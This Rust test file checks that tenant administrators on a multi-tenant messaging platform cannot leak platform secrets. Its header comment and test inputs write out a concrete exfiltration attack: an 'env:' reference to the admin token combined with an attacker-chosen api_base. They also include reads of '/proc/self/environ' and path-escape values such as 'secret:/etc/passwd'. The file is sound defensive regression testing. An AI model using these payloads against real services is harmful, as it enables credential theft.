//! A tenant administrator cannot read the platform's secrets: the attack was
//! `PUT /v1/tenants/ta/channels/360dialog-templates {"account_key": "999", "settings":
//! {"api_key": "env:ZENGINE_API__ADMIN_TOKEN", "api_base": "http://127.0.0.1:9999"}}` and then
//! `GET /v1/channels/360dialog/templates`: the listener on :9999 received the platform admin
//! token as `D360-API-KEY`. Tenants now name only `secret:NAME` in their own store, and only a
//! platform administrator sets `env:`/`file:` references or provider endpoints.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::auth::{add_tenant, call, hs256_options, token};
use crate::fakes::{Answer, FakeProvider};
use crate::helpers::{ADMIN_TOKEN, error_code, put_tenant_secret, spawn_app_with};

/// The variable the attacker asked for; set in this process so the old code would resolve it.
const PLATFORM_VARIABLE: &str = "ZENGINE_SECURITY_TEST_PLATFORM_SECRET";
const PLATFORM_VALUE: &str = "the-platform-secret-value";

#[tokio::test]
async fn a_tenant_admin_cannot_send_platform_secrets_to_a_host_of_its_choice() {
    // SAFETY: set once, before any thread of this test reads the environment for it.
    unsafe { std::env::set_var(PLATFORM_VARIABLE, PLATFORM_VALUE) };
    let app = spawn_app_with(hs256_options()).await;
    let tenant = crate::auth::unique_tenant("ta");
    add_tenant(&app, &tenant).await;
    let attacker = token(&tenant, "admin");
    let listener = FakeProvider::start().await;
    listener.on("GET /v1/configs/templates", |_, _| {
        Answer::json(200, json!({"waba_templates": []}))
    });
    let put = |settings: Value| {
        let app = &app;
        let path = format!("/v1/tenants/{tenant}/channels/360dialog-templates");
        let attacker = attacker.clone();
        async move {
            call(
                app,
                Method::PUT,
                &path,
                Some(&attacker),
                None,
                Some(json!({"account_key": "999", "settings": settings})),
            )
            .await
        }
    };

    // The attack as sent, and each half of it on its own: refused, nothing stored.
    for settings in [
        json!({"api_key": format!("env:{PLATFORM_VARIABLE}"), "api_base": listener.url}),
        json!({"api_key": format!("env:{PLATFORM_VARIABLE}")}),
        json!({"api_key": "file:/proc/self/environ"}),
        json!({"api_key": "secret:mine", "api_base": listener.url}),
        json!({"api_key": "secret:mine", "nested": {"endpoint_url": listener.url}}),
    ] {
        let response = put(settings.clone()).await;
        assert_eq!(
            error_code(response, StatusCode::FORBIDDEN).await,
            "forbidden",
            "{settings}"
        );
    }
    // References that try to leave the tenant's folder are not references at all.
    for escape in ["secret:../demo/key", "secret:/etc/passwd", "secret:"] {
        let response = put(json!({"api_key": escape})).await;
        assert_eq!(
            error_code(response, StatusCode::UNPROCESSABLE_ENTITY).await,
            "invalid_field",
            "{escape}"
        );
    }
    let channels: Value = call(
        &app,
        Method::GET,
        &format!("/v1/tenants/{tenant}/channels"),
        Some(&attacker),
        None,
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(channels["channels"], json!([]), "nothing was stored");
    let listed = call(
        &app,
        Method::GET,
        "/v1/channels/360dialog/templates",
        Some(&attacker),
        None,
        None,
    )
    .await;
    assert_eq!(listed.status(), StatusCode::NOT_FOUND, "no account");
    assert!(listener.seen("").is_empty(), "nothing reached the listener");

    // What the tenant may do: its own secret from its own store. A platform administrator
    // points the account at the provider (here the listener, standing in for 360dialog).
    put_tenant_secret(&tenant, "d360-key", "the-tenant-own-key");
    let platform = call(
        &app,
        Method::PUT,
        &format!("/v1/tenants/{tenant}/channels/360dialog-templates"),
        Some(ADMIN_TOKEN),
        None,
        Some(json!({"account_key": "999", "settings": {"api_key": "secret:d360-key", "api_base": listener.url}})),
    )
    .await;
    assert_eq!(platform.status(), StatusCode::OK);
    // The tenant admin may send the stored endpoint back unchanged (read-modify-write), and
    // change its own secret reference, but not the endpoint.
    let stored: Value = call(
        &app,
        Method::GET,
        &format!("/v1/tenants/{tenant}/channels"),
        Some(&attacker),
        None,
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    let mut settings = stored["channels"][0]["settings"].clone();
    assert_eq!(settings["api_base"], listener.url.as_str());
    assert_eq!(put(settings.clone()).await.status(), StatusCode::OK);
    settings["api_base"] = json!("http://127.0.0.1:9");
    assert_eq!(
        error_code(put(settings).await, StatusCode::FORBIDDEN).await,
        "forbidden"
    );
    let listed = call(
        &app,
        Method::GET,
        "/v1/channels/360dialog/templates",
        Some(&attacker),
        None,
        None,
    )
    .await;
    assert_eq!(listed.status(), StatusCode::OK);
    let seen = listener.seen("GET /v1/configs/templates");
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].headers["d360-api-key"], "the-tenant-own-key");

    // Another tenant naming the same secret gets its own folder, not this one's.
    let other = crate::auth::unique_tenant("tb");
    add_tenant(&app, &other).await;
    let response = call(
        &app,
        Method::PUT,
        &format!("/v1/tenants/{other}/channels/360dialog-templates"),
        Some(ADMIN_TOKEN),
        None,
        Some(json!({"account_key": "998", "settings": {"api_key": "secret:d360-key", "api_base": listener.url}})),
    )
    .await;
    assert_eq!(response.status(), StatusCode::OK);
    let listed = call(
        &app,
        Method::GET,
        "/v1/channels/360dialog/templates",
        Some(&token(&other, "admin")),
        None,
        None,
    )
    .await;
    assert!(
        listed.status().is_client_error() || listed.status().is_server_error(),
        "{}",
        listed.status()
    );
    assert_eq!(
        listener.seen("GET /v1/configs/templates").len(),
        1,
        "the other tenant's missing secret sent nothing"
    );
    for seen in listener.seen("") {
        assert!(
            !seen.headers.values().any(|v| v.contains(PLATFORM_VALUE)),
            "{seen:?}"
        );
    }
}

#[tokio::test]
async fn a_tenant_admin_cannot_point_chatwoot_secrets_at_the_platform() {
    let app = spawn_app_with(hs256_options()).await;
    let tenant = crate::auth::unique_tenant("tc");
    add_tenant(&app, &tenant).await;
    let path = format!("/v1/tenants/{tenant}/chatwoot");
    let body = |reference: &str| {
        json!({"base_url": "https://chatwoot.example", "account_id": 1, "inbox_id": 2,
               "api_access_token": reference, "webhook_secret": reference})
    };
    let admin = token(&tenant, "admin");
    let response = call(
        &app,
        Method::PUT,
        &path,
        Some(&admin),
        None,
        Some(body("env:ZENGINE_API__ADMIN_TOKEN")),
    )
    .await;
    assert_eq!(
        error_code(response, StatusCode::FORBIDDEN).await,
        "forbidden"
    );
    let response = call(
        &app,
        Method::PUT,
        &path,
        Some(&admin),
        None,
        Some(body("secret:cw-token")),
    )
    .await;
    assert_eq!(response.status(), StatusCode::OK);
}

#[tokio::test]
async fn a_tenant_admin_cannot_claim_a_whatsapp_number_it_was_not_given() {
    let app = spawn_app_with(hs256_options()).await;
    let tenant = crate::auth::unique_tenant("td");
    add_tenant(&app, &tenant).await;
    put_tenant_secret(&tenant, "wa", "token");
    let path = format!("/v1/tenants/{tenant}/channels/whatsapp-meta-cloud");
    let body =
        |number: &str| json!({"account_key": number, "settings": {"access_token": "secret:wa"}});
    // An unregistered phone_number_id (nobody's yet, or a deleted tenant's): refused, so the
    // number's customers' messages never route to the attacker (sent with settings that hold
    // no reference at all, so only the registration rule can refuse it).
    let claim = call(
        &app,
        Method::PUT,
        &path,
        Some(&token(&tenant, "admin")),
        None,
        Some(json!({"account_key": "109999000111", "settings": {"api_version": "v23.0"}})),
    )
    .await;
    assert_eq!(error_code(claim, StatusCode::FORBIDDEN).await, "forbidden");
    let db = &app.database.as_ref().unwrap().db;
    assert!(
        db.channels()
            .route("whatsapp-meta-cloud", "109999000111")
            .await
            .unwrap()
            .is_none()
    );
    // A platform administrator registers it; then the tenant manages its settings.
    let registered = call(
        &app,
        Method::PUT,
        &path,
        Some(ADMIN_TOKEN),
        None,
        Some(body("109999000111")),
    )
    .await;
    assert_eq!(registered.status(), StatusCode::OK);
    let update = call(
        &app,
        Method::PUT,
        &path,
        Some(&token(&tenant, "admin")),
        None,
        Some(body("109999000111")),
    )
    .await;
    assert_eq!(update.status(), StatusCode::OK);
}
